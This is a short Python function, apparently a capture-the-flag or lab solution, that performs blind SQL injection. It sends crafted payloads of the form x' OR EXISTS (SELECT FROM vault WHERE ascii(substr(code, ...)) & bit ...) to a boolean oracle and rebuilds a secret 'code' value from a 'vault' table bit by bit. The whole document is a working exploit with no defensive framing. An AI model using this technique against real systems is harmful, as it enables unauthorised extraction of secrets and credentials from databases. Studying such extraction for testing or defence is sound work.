def find(ask):
    code = ""
    while True:
        place = len(code) + 1
        number = 0
        for bit in (64, 32, 16, 8, 4, 2, 1):
            if ask(
                f"x' OR EXISTS (SELECT FROM vault WHERE ascii(substr(code, {place}, 1)) & {bit} = {bit}) AND 'a' = 'a"
            ):
                number += bit
        if number == 0:
            return code
        code += chr(number)
